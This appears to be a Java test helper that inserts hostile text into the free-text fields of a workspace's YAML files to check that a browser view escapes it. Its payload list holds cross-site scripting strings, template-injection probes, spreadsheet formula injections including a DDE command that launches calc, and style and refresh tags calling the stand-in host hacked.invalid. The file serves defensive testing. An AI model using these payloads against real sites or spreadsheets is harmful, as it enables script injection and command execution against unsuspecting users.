package org.kaoping.browser;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import org.kaoping.source.SourceFile;
import org.kaoping.source.Yaml;
import org.kaoping.source.YamlNode;

/**
 * Puts what browsers, spreadsheets and templates might run into every text of a workspace that
 * people write freely. Source of the kinds: OWASP, “XSS Filter Evasion” and “CSV Injection”.
 */
final class HostileContent {
  /** Each would set {@code hacked}, ask a server, or end what it stands in. */
  static final List<String> TEXTS =
      List.of(
          "<script>window.hacked=1</script>",
          "\"><img src=x onerror=window.hacked=1>",
          "'><svg/onload=window.hacked=1>",
          "</title></textarea></script></style><script>window.hacked=1</script>",
          "javascript:window.hacked=1",
          "<iframe src=\"javascript:parent.hacked=1\">",
          "<a href=\"javascript:window.hacked=1\" onfocus=window.hacked=1 autofocus>x</a>",
          "<!-- --!><body onpageshow=window.hacked=1>",
          "]]><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">window.hacked=1</x:script>",
          "${window.hacked=1}${7*7}<#assign x=1>[=7*7]",
          "&lt;script&gt;window.hacked=1&lt;/script&gt;&#60;img src=x onerror=window.hacked=1&#62;",
          "\\\"];window.hacked=1;//\\u003cscript\\u003e",
          "=HYPERLINK(\"http://hacked.invalid/\"&A1)",
          "@SUM(1+1)*cmd|' /C calc'!A0",
          "<style>*{background:url(http://hacked.invalid/)}</style>",
          "<link rel=stylesheet href=http://hacked.invalid/><base href=http://hacked.invalid/>",
          "<meta http-equiv=refresh content=\"0;url=http://hacked.invalid/\">",
          "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>");

  private static final Set<String> FREE =
      Set.of(
          "title", "text", "note", "evidence", "reason", "name", "by", "standard", "organisation");

  private int next;

  private HostileContent() {}

  /** Harms every file of schemes, data and settings. */
  static void in(Path workspace) throws IOException {
    HostileContent content = new HostileContent();
    try (Stream<Path> files = Files.walk(workspace)) {
      for (Path file : files.filter(f -> f.toString().endsWith(".yaml")).sorted().toList()) {
        content.harm(workspace, file);
      }
    }
  }

  private void harm(Path workspace, Path file) throws IOException {
    String path = workspace.relativize(file).toString();
    SourceFile source = SourceFile.read(workspace, path).value().orElseThrow();
    List<YamlNode.Scalar> found = new ArrayList<>();
    collect(new Yaml().read(source).value().orElseThrow(), found);
    List<String> lines = new ArrayList<>(source.text().lines().toList());
    Collections.reverse(found); // what stands before keeps its place
    for (YamlNode.Scalar scalar : found) {
      String line = lines.get(scalar.span().line() - 1);
      int from = line.offsetByCodePoints(0, scalar.span().column() - 1);
      int to = line.offsetByCodePoints(from, scalar.span().length());
      if (line.substring(from, to).equals(scalar.text())) { // without quotes, on one line
        String hostile = scalar.text() + " " + TEXTS.get(next++ % TEXTS.size());
        lines.set(
            scalar.span().line() - 1,
            line.substring(0, from) + "'" + hostile.replace("'", "''") + "'" + line.substring(to));
      }
    }
    Files.writeString(file, String.join("\n", lines) + "\n");
  }

  private static void collect(YamlNode node, List<YamlNode.Scalar> found) {
    if (node instanceof YamlNode.Mapping mapping) {
      for (YamlNode.Entry entry : mapping.entries()) {
        if (entry.value() instanceof YamlNode.Scalar scalar
            && FREE.contains(entry.key().text())
            && !scalar.absent()) {
          found.add(scalar);
        } else {
          collect(entry.value(), found);
        }
      }
    } else if (node instanceof YamlNode.Sequence sequence) {
      sequence.items().forEach(item -> collect(item, found));
    }
  }
}
